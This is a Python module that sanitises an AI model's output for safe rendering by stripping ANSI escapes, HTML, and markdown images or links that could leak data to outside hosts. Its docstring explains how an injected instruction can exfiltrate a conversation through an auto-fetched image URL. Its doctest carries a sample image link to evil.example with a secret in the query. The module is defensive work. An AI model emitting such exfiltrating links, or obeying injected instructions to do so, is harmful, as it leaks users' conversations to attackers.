"""Make a model answer safe to render: no exfiltrating links, no raw HTML, no terminal tricks.

    >>> sanitize_output("표지 ![x](https://evil.example/p.png?q=비밀) 끝").text
    '표지  끝'

An injected instruction's favourite way out is a markdown image whose URL carries the
conversation (the client fetches it without a click), so, in this order:

1. ANSI escape sequences and control characters (except ``\\n`` and ``\\t``) and bidi overrides go.
2. ``<script>``, ``<style>``, ``<iframe>`` and kin go with their content, HTML comments go, and
   every other HTML tag goes (its text stays): the answer is Markdown, never HTML, so event
   handlers and ``javascript:`` attributes leave with their tags. ``<주인공>`` is not a tag.
3. Markdown images to hosts outside ``allowed_hosts`` go; links (inline or reference) to outside
   hosts that carry data (query, fragment, credentials, a long opaque path segment) or use a
   script/data/file scheme keep their text only; bare outside URLs with data are cut to their host.

:class:`StreamSanitizer` applies the same rules to a streamed answer and holds back only a tail
that could still become one of these constructs (an unfinished escape, tag, link or URL).
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterable
from dataclasses import dataclass
from urllib.parse import urlsplit

MAX_HOLD = 4096  # characters a stream may hold back waiting for a construct to close

_ANSI = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)|\x1b[@-Z\\-_]|\x9b[0-?]*[ -/]*[@-~]")
_ANSI_OPEN = re.compile(r"\x1b(?:\[[0-?]*[ -/]*|\][^\x07\x1b]*\x1b?)?\Z|\x9b[0-?]*[ -/]*\Z")
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_DANGEROUS = "script|style|iframe|frame|frameset|object|embed|applet|template|noscript|svg|math|textarea|xmp|form"
_ELEMENT = re.compile(rf"<({_DANGEROUS})\b[^>]*>.*?(?:</\1\s*>|\Z)|<!--.*?(?:-->|\Z)", re.IGNORECASE | re.DOTALL)
_ELEMENT_OPEN = re.compile(rf"<({_DANGEROUS})\b|<!--", re.IGNORECASE)
_HTML_NAMES = (
    "a|abbr|address|area|article|aside|audio|b|base|bdi|bdo|blockquote|body|br|button|canvas|caption|cite|code|"
    "col|colgroup|data|datalist|dd|del|details|dfn|dialog|div|dl|dt|em|fieldset|figcaption|figure|font|footer|h[1-6]|"
    "head|header|hr|html|i|img|input|ins|kbd|label|legend|li|link|main|map|mark|marquee|menu|meta|meter|nav|ol|"
    "optgroup|option|output|p|param|picture|pre|progress|q|rp|rt|ruby|s|samp|section|select|slot|small|source|span|"
    "strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|title|tr|track|tt|u|ul|var|video|wbr"
)
# A known element, a custom element (a-b), anything with an attribute (event handlers work on any tag)
# or any closing tag; "x<y 그리고 y>z" is none of these.
_TAG = re.compile(rf"</?(?:(?:{_HTML_NAMES})\b(?:\s[^<>]*)?|[A-Za-z][A-Za-z0-9]*-[A-Za-z0-9:-]*(?:\s[^<>]*)?"
                  r"|[A-Za-z][A-Za-z0-9:-]*(?=\s[^<>]*=)\s[^<>]*)/?>|</[A-Za-z][A-Za-z0-9:-]*\s*>",
                  re.IGNORECASE)
_IMAGE = re.compile(r"!\[([^[\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")
_LINK = re.compile(r"\[([^[\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")
_REF_DEF = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+[^\n]*)?$", re.MULTILINE)
_BARE_URL = re.compile(r"<?(?<![A-Za-z0-9])(?:https?|ftp)://[^\s<>()\[\]\"']+>?", re.IGNORECASE)
_OPAQUE = re.compile(r"[A-Za-z0-9+/=_%.-]{32,}")
_UNSAFE_SCHEMES = ("javascript", "vbscript", "data", "file")
# Tails a stream must hold: an open tag, link or image, a bare URL or the start of one, a lone "!".
_TAG_OPEN = re.compile(r"<(?:/?[A-Za-z][^<>]*|/|!-{0,2})?\Z")
_LINK_OPEN = re.compile(r"!?\[[^[\]\n]*(?:\](?:\([^)\n]*|:[^\n]*)?)?\Z")
_URL_OPEN = re.compile(r"(?<![A-Za-z0-9])(?:(?:https?|ftp)://\S*|h(?:t(?:t(?:p(?:s)?(?::/{0,2})?)?)?)?"
                       r"|f(?:t(?:p(?::/{0,2})?)?)?)\Z|!\Z", re.IGNORECASE)
_WORD_END = re.compile(r"(?=\s)")


@dataclass(frozen=True)
class SanitizeResult:
    text: str
    actions: dict[str, int]  # what was removed or neutralised, by kind


def _host_allowed(host: str | None, allowed: tuple[str, ...]) -> bool:
    return host is None or any(host == h or host.endswith("." + h) for h in allowed)


def _split(url: str):
    try:
        return urlsplit(url)
    except ValueError:  # e.g. an unbalanced "[" in the host
        return None


def _outside(url: str, allowed: tuple[str, ...]) -> bool:
    parts = _split(url)
    if parts is None or parts.scheme.lower() in _UNSAFE_SCHEMES:
        return True
    return bool(parts.scheme or parts.netloc) and not _host_allowed((parts.hostname or "").lower(), allowed)


def _carries_data(url: str) -> bool:
    parts = _split(url)
    if parts is None or parts.scheme.lower() in _UNSAFE_SCHEMES:
        return True
    return bool(parts.query or parts.fragment or "@" in parts.netloc or _OPAQUE.search(parts.path))


class _Rules:
    """One sanitising pass; counts what it does."""

    def __init__(self, allowed_hosts: Iterable[str]) -> None:
        self.allowed = tuple(h.lower().lstrip(".") for h in allowed_hosts)
        self.actions: Counter[str] = Counter()

    def _sub(self, pattern: re.Pattern[str], text: str, kind: str, repl) -> str:
        def apply(m: re.Match[str]) -> str:
            out = repl(m) if callable(repl) else repl
            if out != m.group():
                self.actions[kind] += 1
            return out
        return pattern.sub(apply, text)

    def run(self, text: str, *, line_start: bool = True) -> str:
        text = self._sub(_ANSI, text, "ansi", "")
        text = self._sub(_CONTROL, text, "control", "")
        text = self._sub(_ELEMENT, text, "html_element", "")
        text = self._sub(_TAG, text, "html_tag", "")
        text = self._sub(_IMAGE, text, "image", lambda m: "" if _outside(m[2], self.allowed) else m.group())
        text = self._sub(_LINK, text, "link", self._link)
        text = self._sub(_REF_DEF, text, "link",
                         lambda m: m.group() if (m.start() == 0 and not line_start) or not self._risky(m[1]) else "")
        return self._sub(_BARE_URL, text, "url", self._bare_url)

    def _risky(self, url: str) -> bool:
        return _outside(url, self.allowed) and _carries_data(url)

    def _link(self, m: re.Match[str]) -> str:
        return m[1] if self._risky(m[2]) else m.group()

    def _bare_url(self, m: re.Match[str]) -> str:
        url = m.group().strip("<>")
        if not self._risky(url):
            return m.group()
        parts = _split(url)
        return f"{parts.scheme}://{parts.hostname}/" if parts is not None and parts.hostname else ""


def sanitize_output(text: str, allowed_hosts: Iterable[str] = ()) -> SanitizeResult:
    """``text`` with exfiltrating images and links, HTML, ANSI escapes and control characters removed."""
    rules = _Rules(allowed_hosts)
    return SanitizeResult(rules.run(text), dict(rules.actions))


_WHOLE = (_ANSI, _ELEMENT, _TAG, _IMAGE, _LINK, _REF_DEF, _BARE_URL)


class StreamSanitizer:
    """Sanitise an answer chunk by chunk; ``feed`` returns what is safe to send now.

    The concatenated output equals ``sanitize_output`` of the whole answer; only a tail that could
    still turn into an escape sequence, tag, element, link or URL is held back. A tail longer than
    MAX_HOLD is released defused, so that no later chunk can complete it on the client: a dangerous
    element is dropped up to its close, a tag's "<" and a link's "[" are escaped, and a URL is cut
    to its host with the rest of it dropped up to the next whitespace.
    """

    def __init__(self, allowed_hosts: Iterable[str] = ()) -> None:
        self._rules = _Rules(allowed_hosts)
        self._pending = ""
        self._line_start = True
        self._skip_until: re.Pattern[str] | None = None  # the end of an over-long construct being dropped

    @property
    def actions(self) -> dict[str, int]:
        return dict(self._rules.actions)

    def feed(self, chunk: str) -> str:
        buffer = self._pending + chunk
        if self._skip_until is not None:
            close = self._skip_until.search(buffer)
            if close is None:
                self._pending = buffer[-16:]  # the close tag may straddle chunks
                return ""
            buffer, self._skip_until = buffer[close.end():], None
        cut = self._safe_length(buffer)
        if len(buffer) - cut > MAX_HOLD:
            return self._release(buffer[:cut]) + self._defuse(buffer, cut)
        self._pending = buffer[cut:]
        return self._release(buffer[:cut])

    def _defuse(self, buffer: str, cut: int) -> str:
        """Release the over-long unfinished construct at ``buffer[cut:]`` so that nothing can complete it."""
        tail, self._pending = buffer[cut:], ""
        if (opener := _unclosed_element(buffer)) is not None and opener.start() == cut:
            self._skip_until = _closer(opener)
            return ""
        if (url := _BARE_URL.match(tail)) is not None and url.end() == len(tail):
            self._skip_until = _WORD_END
            return self._release(tail)
        self._rules.actions["defused"] += 1
        return self._release(tail.replace("<", "&lt;", 1) if tail.startswith("<") else tail.replace("[", "\\[", 1))

    def finish(self) -> str:
        """Everything still held, sanitised as the end of the answer."""
        rest, self._pending = ("" if self._skip_until else self._pending), ""
        return self._release(rest)

    def _release(self, text: str) -> str:
        if not text:
            return ""
        out = self._rules.run(text, line_start=self._line_start)
        self._line_start = text.endswith("\n")
        return out

    @staticmethod
    def _safe_length(buffer: str) -> int:
        """Where the held-back tail starts: the earliest unfinished construct, else the end."""
        starts = [len(buffer)]
        if (opener := _unclosed_element(buffer)) is not None:
            starts.append(opener.start())
        for pattern in (_ANSI_OPEN, _TAG_OPEN, _URL_OPEN):
            if (m := pattern.search(buffer)) is not None:
                starts.append(m.start())
        if (bracket := buffer.rfind("[")) != -1 and _LINK_OPEN.match(buffer, bracket - (buffer[bracket - 1:bracket] == "!")):
            starts.append(bracket - (buffer[bracket - 1:bracket] == "!"))
        cut = min(starts)
        moved = True
        while moved:  # never split a construct that is already complete (an escape, an image around a URL)
            moved = False
            for pattern in _WHOLE:
                for m in pattern.finditer(buffer, 0, len(buffer)):
                    if m.start() < cut < m.end():
                        cut, moved = m.start(), True
        return cut


def _closer(opener: re.Match[str]) -> re.Pattern[str]:
    return re.compile(rf"</{opener[1]}\s*>" if opener[1] else "-->", re.IGNORECASE)


def _unclosed_element(buffer: str) -> re.Match[str] | None:
    """The opening of a script/style/... element or comment that ``buffer`` does not close."""
    pos = 0
    while (opener := _ELEMENT_OPEN.search(buffer, pos)) is not None:
        closed = _closer(opener).search(buffer, opener.end())
        if closed is None:
            return opener
        pos = closed.end()
    return None
